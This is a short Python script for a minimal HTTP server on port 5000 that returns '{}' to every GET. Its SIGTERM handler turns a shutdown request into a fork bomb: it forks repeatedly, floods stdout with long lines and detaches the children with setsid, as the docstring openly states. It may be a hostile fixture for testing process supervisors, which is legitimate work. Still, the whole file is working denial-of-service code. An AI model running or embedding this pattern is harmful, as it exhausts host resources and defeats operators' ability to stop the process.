"""Answers SIGTERM with as many children as there may be, and a log without end, in place of an end."""
import os
import signal
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


def more(*_):
    try:
        while os.fork():
            sys.stdout.write("x" * 4000 + "\n")
        os.setsid()
    except OSError:
        pass


signal.signal(signal.SIGTERM, more)


class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{}")


ThreadingHTTPServer(("0.0.0.0", 5000), Handler).serve_forever()
